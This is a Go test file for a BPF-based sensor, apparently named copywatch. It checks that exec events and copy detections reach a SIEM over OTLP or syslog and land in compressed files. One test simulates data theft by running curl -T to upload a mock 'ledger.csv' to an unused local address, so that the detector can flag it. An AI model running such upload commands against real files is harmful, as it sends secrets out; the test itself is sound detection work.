//go:build linux

package siem

import (
	"os"
	"os/exec"
	"path/filepath"
	"testing"

	"github.com/stretchr/testify/require"
	"go.opentelemetry.io/collector/pdata/plog"

	"github.com/copywatch/copywatch/internal/schema"
	"github.com/copywatch/copywatch/internal/testhost"
	"github.com/copywatch/copywatch/internal/testprocess"
)

// eventsFromReplay has an overlay's pipeline, too, take what is replayed in place of the probe.
const eventsFromReplay = "yaml:service::pipelines::logs/events::receivers: [otlp/replay]"

// withOverlay puts an overlay behind the first configuration of a collector.
func withOverlay(c *collector, overlay string, variables ...string) *collector {
	c.configs = append([]string{c.configs[0], filepath.Join("../../config", overlay)}, c.configs[1:]...)
	c.configs = append(c.configs, eventsFromReplay)
	c.env = append(c.env, variables...)
	return c
}

func TestEventsToFilesMatchesToOTLP(t *testing.T) {
	a := newAuthority(t)
	siem := newOTLPPeer(t, a)
	siem.start(t)
	dir := t.TempDir()
	c := withOverlay(newOTLPCollector(t, a, siem.address), "events-file.yaml", "COPYWATCH_FILES="+dir)
	c.start(t)
	r := newReplay(t, c)
	for range 5 {
		require.NoError(t, r.send(t.Context(), 200))
	}
	siem.out.requireAll(t, r.matches, testprocess.Patience)
	require.Len(t, siem.out.records, len(r.matches))

	events := readCompressed(t, filepath.Join(dir, "events.json.zst"))
	require.Len(t, events, len(r.events))
	all := newArrivals()
	for _, record := range events {
		require.Equal(t, schema.EventExec, record.EventName(), "untagged")
		all.add(entityOf(record))
	}
	all.requireAll(t, r.events, 0)
}

// Both queues are on disk and do not know of each other: one backend away does
// not keep from the other what it is due, and gets its own when it is back.
func TestEventsToOTLPMatchesToSyslog(t *testing.T) {
	a := newAuthority(t)
	address := freeAddress(t)
	siem := serveSyslog(t, a, address)
	storage := newOTLPPeer(t, a)
	c := withOverlay(newSyslogCollector(t, a, address), "events-otlp.yaml",
		"EVENTS_OTLP_ENDPOINT="+storage.address, "EVENTS_OTLP_TOKEN=sesame", "EVENTS_CA_FILE="+a.file)
	c.start(t)
	r := newReplay(t, c)
	require.NoError(t, r.send(t.Context(), 1000))
	siem.arrivals.requireAll(t, r.matches, testprocess.Patience)
	c.says(t, "connection refused")
	c.daemon.Kill()

	storage.start(t)
	c.start(t)
	storage.out.requireAll(t, r.events, testprocess.Patience)
	require.Len(t, siem.received(t), len(r.matches))
	service := 0
	for _, record := range storage.out.records {
		require.Equal(t, schema.EventExec, record.EventName())
		service++
	}
	require.Equal(t, len(r.events), service)
}

// The whole way, with the probe: a copy is in the SIEM, and in the cheap
// storage with everything else.
func TestEventsAndMatchesOfTheProbe(t *testing.T) {
	testhost.NeedBPF(t)
	curl := testhost.NeedCommand(t, "curl", "curl")
	a := newAuthority(t)
	siem := newOTLPPeer(t, a)
	siem.start(t)
	dir := t.TempDir()
	c := newSensor(t, []string{"otlp.yaml", "events-file.yaml"},
		"OTLP_ENDPOINT="+siem.address, "OTLP_TOKEN=sesame", "COPYWATCH_CA_FILE="+a.file,
		"COPYWATCH_FILES="+dir, "COPYWATCH_METRICS_PORT="+testprocess.FreePort(t))
	c.start(t)

	secret := filepath.Join(dir, "ledger.csv")
	require.NoError(t, os.WriteFile(secret, []byte("a,b\n"), 0o600))
	// Nobody listens there: what counts is that it was executed.
	_ = exec.Command(curl, "--silent", "-T", secret, "http://"+freeAddress(t)+"/in/").Run()
	harmless := filepath.Join(dir, "harmless")
	require.NoError(t, exec.Command("true", harmless).Run())

	require.True(t, testprocess.Await(func() bool {
		siem.out.update(t)
		return hasArgument(siem.out.records, secret, schema.EventCopy)
	}), "the copy is in the SIEM")
	require.False(t, hasArgument(siem.out.records, harmless, schema.EventExec))
	require.True(t, testprocess.Await(func() bool {
		events := readCompressed(t, filepath.Join(dir, "events.json.zst"))
		return hasArgument(events, secret, schema.EventExec) && hasArgument(events, harmless, schema.EventExec)
	}), "all is in the files")
}

// hasArgument looks for a record of a kind of which an argument is as given.
func hasArgument(records []plog.LogRecord, argument, event string) bool {
	for _, record := range records {
		args, found := record.Attributes().Get(schema.CommandArgs)
		if !found || record.EventName() != event {
			continue
		}
		for _, arg := range args.Slice().All() {
			if arg.Str() == argument {
				return true
			}
		}
	}
	return false
}
